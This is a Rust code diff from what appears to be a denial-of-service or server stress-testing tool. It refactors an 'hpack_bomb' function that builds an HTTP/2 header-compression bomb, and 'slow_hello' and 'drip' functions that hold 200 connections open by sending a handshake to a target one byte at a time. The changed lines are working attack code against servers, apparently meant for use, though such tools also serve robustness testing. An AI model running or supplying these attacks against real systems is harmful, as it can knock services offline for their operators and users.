@@ -204,11 +204,10 @@ fn continuation() -> Vec<u8> {
 }
 
 /// One long field, which is then named again and again.
-fn hpack_bomb(target: &Target, id: u32) -> Vec<u8> {
-    let request = request("GET", &target.host, "/", None);
-    let field = remembered("x", &"y".repeat(3_900));
-    let bomb = [field, vec![LAST; 16_000], request].concat();
-    http2::headers(id, END_STREAM, &bomb[..16_000])
+fn hpack_bomb(_: &Target, id: u32) -> Vec<u8> {
+    let mut block = remembered("x", &"y".repeat(3_900));
+    block.resize(16_000, LAST);
+    http2::headers(id, END_STREAM, &block)
 }
 
 fn large_block(target: &Target, id: u32) -> Vec<u8> {
@@ -258,10 +257,10 @@ fn send(
 
 /// Opens `count` connections with `open` and sends `drop_by_drop` on each, one byte at a time,
 /// until all are closed.
-fn drip(
+fn drip<S: Write>(
     stop: &AtomicBool,
     count: usize,
-    mut open: impl FnMut() -> Result<Stream, Failure>,
+    mut open: impl FnMut() -> Result<S, Failure>,
     drop_by_drop: &[u8],
 ) -> Result<(), Failure> {
     let mut streams = (0..count).map(|_| open()).collect::<Result<Vec<_>, _>>()?;
@@ -284,21 +283,7 @@ fn drip(
 }
 
 fn slow_hello(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
-    let hello = target.hello()?;
-    let mut sockets = (0..200)
-        .map(|_| target.socket())
-        .collect::<Result<Vec<_>, _>>()?;
-    for byte in &hello {
-        sockets.retain_mut(|socket| socket.write_all(&[*byte]).is_ok());
-        if sockets.is_empty() {
-            return Err(Failure::new("all ended"));
-        }
-        std::thread::sleep(DRIP);
-        if stop.load(Ordering::Relaxed) {
-            break;
-        }
-    }
-    Ok(())
+    drip(stop, 200, || target.socket(), &target.hello()?)
 }
 
 fn slow_heads(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
